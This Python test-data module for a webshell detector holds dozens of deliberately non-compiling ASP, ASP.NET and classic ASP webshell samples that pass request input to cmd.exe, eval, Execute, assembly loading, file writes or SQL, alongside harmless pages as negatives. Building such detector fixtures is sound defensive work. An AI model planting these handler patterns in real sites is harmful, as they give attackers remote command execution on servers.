# ruff: noqa: E501 - the lines of these pages are as long as such pages have them
"""Look-alikes for ASP and ASP.NET written after the mending for `wider.py`, counted before any change for them, then
mended after as well; none can run, `1broken` stops each compiler.

Beside them ordinary pages that use the same parts of the languages for something harmless.
"""

from tests.detection.webshell.second_samples import cut

NET = cut(
    r"""
==== nested-class.ashx
<%@ WebHandler Language="C#" Class="B1" %>
int 1broken; public class B1 : IHttpHandler { sealed class Runner { readonly string line; public Runner(string l) { line = l; } public void Go() { System.Diagnostics.Process.Start("cmd.exe", "/c " + line); } } public void ProcessRequest(HttpContext c) { new Runner(c.Request.Params["z"]).Go(); } public bool IsReusable => false; }
==== static-helper.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken; static class Tool { internal static void Do(params string[] a) { var i = new System.Diagnostics.ProcessStartInfo(a[0], a[1]); System.Diagnostics.Process.Start(i); } } void Page_Load(object s, EventArgs e) { Tool.Do("cmd", "/c " + Request.Form["z"]); }</script>
==== event.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken; event Action<string> Fired; void Page_Load(object s, EventArgs e) { Fired += v => System.Diagnostics.Process.Start("cmd", "/c " + v); Fired(Request["z"]); }</script>
==== queue.aspx
<%@ Page Language="C#" %><% int 1broken; var q = new Queue<string>(); q.Enqueue(Request["z"]); System.Diagnostics.Process.Start("cmd", "/c " + q.Dequeue()); %>
==== list-join.aspx
<%@ Page Language="C#" %><% int 1broken; var l = new List<string> { "/c" }; l.Add(Request["z"]); System.Diagnostics.Process.Start("cmd", string.Join(" ", l)); %>
==== regex.aspx
<%@ Page Language="C#" %><% int 1broken; var m = Regex.Match(Request.Headers["Accept-Language"] ?? "", "q=0;(.+)$"); if (m.Success) System.Diagnostics.Process.Start("cmd", "/c " + m.Groups[1].Value); %>
==== json-body.ashx
<%@ WebHandler Language="C#" Class="B2" %>
int 1broken; public class B2 : IHttpHandler { public void ProcessRequest(HttpContext c) { var t = new StreamReader(c.Request.InputStream).ReadToEnd(); var d = new System.Web.Script.Serialization.JavaScriptSerializer().Deserialize<Dictionary<string, string>>(t); System.Diagnostics.Process.Start(d["f"], d["a"]); } public bool IsReusable => true; }
==== xml-body.aspx
<%@ Page Language="C#" %><% int 1broken; var x = System.Xml.Linq.XDocument.Load(Request.InputStream); System.Diagnostics.Process.Start("cmd", "/c " + x.Root.Value); %>
==== split-pairs.aspx
<%@ Page Language="C#" %><% int 1broken; foreach (var p in Request.Form.ToString().Split('&')) { var kv = p.Split('='); if (kv[0] == "z") System.Diagnostics.Process.Start("cmd", "/c " + HttpUtility.UrlDecode(kv[1])); } %>
==== try-get.aspx
<%@ Page Language="C#" %><% int 1broken; var d = Request.QueryString.AllKeys.ToDictionary(k => k, k => Request.QueryString[k]); string v; if (d.TryGetValue("z", out v)) System.Diagnostics.Process.Start("cmd", "/c " + v); %>
==== out-parameter.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken; void Take(out string v) { v = Request["z"]; } void Page_Load(object s, EventArgs e) { string v; Take(out v); System.Diagnostics.Process.Start("cmd", "/c " + v); }</script>
==== generic-method.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken; T Id<T>(T x) { return x; } void Page_Load(object s, EventArgs e) { System.Diagnostics.Process.Start("cmd", "/c " + Id<string>(Request["z"])); }</script>
==== conditional-access.aspx
<%@ Page Language="C#" %><% int 1broken; var z = Request?.Headers?["X-Z"]?.Trim(); if (z?.Length > 0) new System.Diagnostics.Process { StartInfo = { FileName = "cmd.exe", Arguments = "/c " + z } }.Start(); %>
==== base-page.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken; string Arg { get { return Request["z"]; } } protected override void Render(HtmlTextWriter w) { var i = new System.Diagnostics.ProcessStartInfo { FileName = "cmd.exe", Arguments = "/c " + Arg, UseShellExecute = false }; System.Diagnostics.Process.Start(i); base.Render(w); }</script>
==== vb-module.aspx
<%@ Page Language="VB" %><script runat="server">
Dim 1broken
Private Property Line As String
Protected Sub Page_Init() Handles Me.Init
  Line = Request.Headers("X-Z")
End Sub
Protected Sub Page_PreRender() Handles Me.PreRender
  If Line IsNot Nothing Then Process.Start("cmd.exe", "/c " & Line)
End Sub
</script>
==== vb-function.ashx
<%@ WebHandler Language="VB" Class="B3" %>
Dim 1broken
Public Class B3 : Implements IHttpHandler
  Public Sub ProcessRequest(ByVal c As HttpContext) Implements IHttpHandler.ProcessRequest
    c.Response.Write(Go(c.Request.Form.Item("z")))
  End Sub
  Private Function Go(ByVal v As String) As String
    Dim i As New ProcessStartInfo("cmd.exe", "/c " & v) With {.RedirectStandardOutput = True, .UseShellExecute = False}
    Using p = Process.Start(i)
      Return p.StandardOutput.ReadToEnd()
    End Using
  End Function
End Class
==== vb-load.aspx
<%@ Page Language="VB" %><% Dim 1broken
Dim b() As Byte = Convert.FromBase64String(Request.Cookies("z").Value)
Dim a = System.Reflection.Assembly.Load(b)
a.EntryPoint.Invoke(Nothing, New Object() {Nothing}) %>
==== jscript-class.aspx
<%@ Page Language="JScript" %><script runat="server">var 1broken; class K { function Go(v) { return eval(v, "unsafe"); } } function Page_Load() { var k = new K(); k.Go(Request.Params["z"]); }</script>
==== jscript-property.aspx
<%@ Page Language="JScript" %><% var 1broken; var b = {}; b.v = Request.Form["z"]; eval(b.v, "unsafe"); %>
==== jscript-array.aspx
<%@ Page Language="JScript" %><% var 1broken; var a = new Array(); a.push(Request.Item["z"]); var u = "unsafe"; eval(a.pop(), u); %>
==== write-all-lines.ashx
<%@ WebHandler Language="C#" Class="B4" %>
int 1broken; public class B4 : IHttpHandler { public void ProcessRequest(HttpContext c) { var r = c.Request; File.WriteAllLines(r.MapPath(r["p"]), r["z"].Split('|')); } public bool IsReusable => true; }
==== upload-any.ashx
<%@ WebHandler Language="C#" Class="B5" %>
int 1broken; public class B5 : IHttpHandler { public void ProcessRequest(HttpContext c) { var f = c.Request.Files["f"]; var d = c.Request.Form["d"]; f.SaveAs(System.IO.Path.Combine(d, f.FileName)); } public bool IsReusable => true; }
==== sql-any.aspx
<%@ Page Language="C#" %><% int 1broken; using (var c = new System.Data.SqlClient.SqlConnection(Request.Form["c"])) { c.Open(); using (var m = c.CreateCommand()) { m.CommandText = Request.Form["q"]; m.ExecuteReader(); } } %>
==== invoke-type.aspx
<%@ Page Language="C#" %><% int 1broken; var t = Type.GetType(Request["t"]); t.InvokeMember(Request["m"], BindingFlags.InvokeMethod, null, null, new object[] { Request["a"] }); %>
==== compile-property.aspx
<%@ Page Language="C#" %><% int 1broken; var p = new Microsoft.CSharp.CSharpCodeProvider(); string[] src = { Request.Form["z"] }; var r = p.CompileAssemblyFromSource(new CompilerParameters(), src); r.CompiledAssembly.GetTypes()[0].GetMethods()[0].Invoke(null, null); %>
"""
)
ASP = cut(
    r"""
==== function-result.asp
<% Dim 1broken
Function Q(n)
 Q = Request.Form(n)
End Function
Execute Q("z") %>
==== property-get.asp
<% Dim 1broken
Class K
 Public Property Get V()
  V = Request("z")
 End Property
End Class
Set k1 = New K
ExecuteGlobal k1.V %>
==== initialise.asp
<% Dim 1broken
Class K
 Private v
 Private Sub Class_Initialize
  v = Request("z")
  Execute v
 End Sub
End Class
Set k1 = New K %>
==== redim.asp
<% Dim 1broken
Dim a()
ReDim a(1)
a(1) = Request("z")
For Each x In a
 If x <> "" Then Execute x
Next %>
==== do-loop.asp
<% Dim 1broken
i = 1
Do While Request("z" & i) <> ""
 s = s & Request("z" & i) & vbCrLf
 i = i + 1
Loop
ExecuteGlobal s %>
==== split.asp
<% Dim 1broken
p = Split(Request.ServerVariables("HTTP_COOKIE"), ";")
Execute Unescape(p(0)) %>
==== shell-env.asp
<% Dim 1broken
Set w = Server.CreateObject("WScript.Shell")
w.Environment("Process")("Z") = Request("z")
w.Run "cmd /c %Z%", 0 %>
==== dictionary-item.asp
<% Dim 1broken
Set d = CreateObject("Scripting.Dictionary")
d("a") = Request("z")
Execute d.Item("a") %>
==== file-object.asp
<% Dim 1broken
Set f = CreateObject("Scripting.FileSystemObject")
Set t = f.GetFolder(Request("d")).CreateTextFile(Request("n"), True)
t.Write Request("z") : t.Close %>
==== xml-dom.asp
<% Dim 1broken
Set x = CreateObject("MSXML2.DOMDocument.3.0")
x.load Request
Execute x.documentElement.text %>
==== xmlhttp-get.asp
<% Dim 1broken
Function G(u)
 Set h = CreateObject("MSXML2.XMLHTTP")
 h.open "GET", u, False : h.send
 G = h.responseText
End Function
Execute G(Request("u")) %>
==== js-closure.asp
<%@ language="JScript" %><% var 1broken; function mk(f) { return function (n) { f(String(Request(n))); }; } mk(eval)("z"); %>
==== js-array.asp
<%@ language="JScript" %><% var 1broken; var a = [eval]; a[0](String(Request.Form("z"))); %>
==== js-try.asp
<%@ language="JScript" %><% var 1broken; try { var z = Request.QueryString("z")(1); eval("(" + z + ")"); } catch (e) { Response.Write(e.message); } %>
==== js-prototype.asp
<%@ language="JScript" %><% var 1broken; function K(v) { this.v = v; } K.prototype.go = function () { eval(this.v); }; new K(String(Request("z"))).go(); %>
"""
)
BENIGN = cut(
    r"""
==== linq.aspx
<%@ Page Language="C#" %><script runat="server">void Page_Load(object s, EventArgs e) { var ids = Request.Form.AllKeys.Where(k => k.StartsWith("id_")).Select(k => int.Parse(Request.Form[k])).ToList(); ids.ForEach(i => Orders.Close(i)); list.DataSource = Orders.Open().Select(o => new { o.Id, o.Name }).ToList(); list.DataBind(); }</script><asp:Repeater id="list" runat="server"/>
==== diagnostics.aspx
<%@ Page Language="C#" %><%@ Import Namespace="System.Diagnostics" %><script runat="server">void Page_Load(object s, EventArgs e) { var w = Stopwatch.StartNew(); Trace.Write("search", Request["q"]); grid.DataSource = Search.Run(Request["q"]); grid.DataBind(); Debug.WriteLine(w.ElapsedMilliseconds); var p = Process.GetCurrentProcess(); mem.Text = p.WorkingSet64.ToString(); }</script><asp:GridView id="grid" runat="server"/><asp:Label id="mem" runat="server"/>
==== alias.ashx
<%@ WebHandler Language="C#" Class="Thumb" %>
using System.Web; using Img = System.Drawing.Image; using P = System.Diagnostics.Process;
public class Thumb : IHttpHandler { public void ProcessRequest(HttpContext c) { int id = int.Parse(c.Request["id"]); using (var p = P.Start("C:\\Tools\\thumb.exe", "--id " + id)) { p.WaitForExit(5000); } using (var i = Img.FromFile(c.Server.MapPath("~/cache/" + id + ".png"))) { i.Save(c.Response.OutputStream, System.Drawing.Imaging.ImageFormat.Png); } } public bool IsReusable => true; }
==== routes.ashx
<%@ WebHandler Language="C#" Class="Api" %>
using System; using System.Collections.Generic; using System.Web;
public class Api : IHttpHandler { static readonly Dictionary<string, Func<HttpContext, object>> Acts = new Dictionary<string, Func<HttpContext, object>> { { "list", c => Store.All() }, { "get", c => Store.Get(int.Parse(c.Request["id"])) }, { "find", c => Store.Find(c.Request["q"]) } };
 public void ProcessRequest(HttpContext c) { Func<HttpContext, object> f; if (!Acts.TryGetValue(c.Request["a"] ?? "list", out f)) { c.Response.StatusCode = 404; return; } c.Response.Write(Json.Of(f(c))); } public bool IsReusable => true; }
==== task.aspx
<%@ Page Language="C#" Async="true" %><script runat="server">protected void Page_Load(object s, EventArgs e) { RegisterAsyncTask(new PageAsyncTask(async () => { var r = await Weather.For(Request["city"] ?? "Bern"); lbl.Text = Server.HtmlEncode(r.Text); })); System.Threading.Tasks.Task.Run(() => Log.Add("weather", Request.UserHostAddress)); }</script><asp:Label id="lbl" runat="server"/>
==== pattern.ashx
<%@ WebHandler Language="C#" Class="Doc" %>
public class Doc : IHttpHandler { public void ProcessRequest(HttpContext c) { if (c.Request["n"] is string n && System.Text.RegularExpressions.Regex.IsMatch(n, "^[a-z0-9-]{1,40}$")) { c.Response.ContentType = "application/pdf"; c.Response.TransmitFile(c.Server.MapPath("~/docs/" + n + ".pdf")); } else c.Response.StatusCode = 404; } public bool IsReusable => true; }
==== fields.aspx
<%@ Page Language="C#" %><script runat="server">public class Filter { public string Text; public string Sort { get; set; } public string Title() { return "Results for " + Text + " by " + Sort; } } void Page_Load(object s, EventArgs e) { var f = new Filter(); f.Text = Request["q"]; f.Sort = Request["sort"]; title.Text = Server.HtmlEncode(f.Title()); rows.DataSource = Catalogue.Search(f.Text); rows.DataBind(); }</script><asp:Literal id="title" runat="server"/><asp:Repeater id="rows" runat="server"/>
==== tuple.cshtml
@{ var (page, size) = (int.TryParse(Request["page"], out var p) ? p : 1, 20); var rows = Model.Skip((page - 1) * size).Take(size); }
@foreach (var r in rows) { <p>@r.Name</p> }
==== reload.aspx
<%@ Page Language="C#" %><script runat="server">void Save(object s, EventArgs e) { var x = new System.Xml.XmlDocument(); x.Load(Server.MapPath("~/App_Data/site.xml")); x.SelectSingleNode("/site/title").InnerText = t.Text; x.Save(Server.MapPath("~/App_Data/site.xml")); HttpRuntime.Cache.Remove("site"); }</script><asp:TextBox id="t" runat="server"/><asp:Button OnClick="Save" runat="server"/>
==== vb-with.aspx
<%@ Page Language="VB" %><script runat="server">
Sub Send(ByVal s As Object, ByVal e As EventArgs)
  Dim m As New System.Net.Mail.MailMessage()
  With m
    .From = New System.Net.Mail.MailAddress("web@site.example")
    .Subject = subj.Text
    .Body = body.Text
  End With
  Dim c As New System.Net.Mail.SmtpClient("mail.site.example")
  c.Send(m)
End Sub
</script><asp:TextBox id="subj" runat="server"/><asp:TextBox id="body" runat="server"/>
==== class.asp
<%
Class Cart
 Private items
 Public Customer
 Private Sub Class_Initialize
  Set items = Server.CreateObject("Scripting.Dictionary")
 End Sub
 Public Default Function Total()
  Dim k : Total = 0
  For Each k In items : Total = Total + items(k) : Next
 End Function
 Public Sub Add(id, price)
  items(id) = CDbl(price)
 End Sub
End Class
Set c = New Cart
c.Customer = Request.Form("customer")
c.Add Request.Form("id"), 9.5
Response.Write Server.HTMLEncode(c.Customer) & c() %>
==== byref.asp
<%
Sub ReadForm(ByRef name, ByRef mail)
 name = Trim(Request.Form("name"))
 mail = Trim(Request.Form("mail"))
End Sub
Dim n, m
ReadForm n, m
Set c = Server.CreateObject("ADODB.Command")
c.CommandText = "INSERT INTO guest (n, m) VALUES (?, ?)"
c.Parameters.Append c.CreateParameter("n", 200, 1, 80, n)
c.Parameters.Append c.CreateParameter("m", 200, 1, 80, m)
c.Execute %>
==== server-execute.asp
<%
Select Case Request.QueryString("part")
Case "news": Server.Execute "/parts/news.asp"
Case Else: Server.Execute "/parts/start.asp"
End Select
Set f = Server.CreateObject("Scripting.FileSystemObject").OpenTextFile(Server.MapPath("/logs/visits.txt"), 8, True)
f.WriteLine Now & " " & Request.ServerVariables("REMOTE_ADDR") & " " & Request.QueryString("part")
f.Close %>
==== js-methods.asp
<%@ language="JScript" %><% var shop = { find: function (q) { return rows(q); }, show: function (r) { Response.Write(Server.HTMLEncode(r)); } }; shop.show(shop.find(String(Request.QueryString("q")))); var fmt = function (s) { return s.replace(/</g, "&lt;"); }; Response.Write(fmt(String(Request("t")))); %>
"""
)
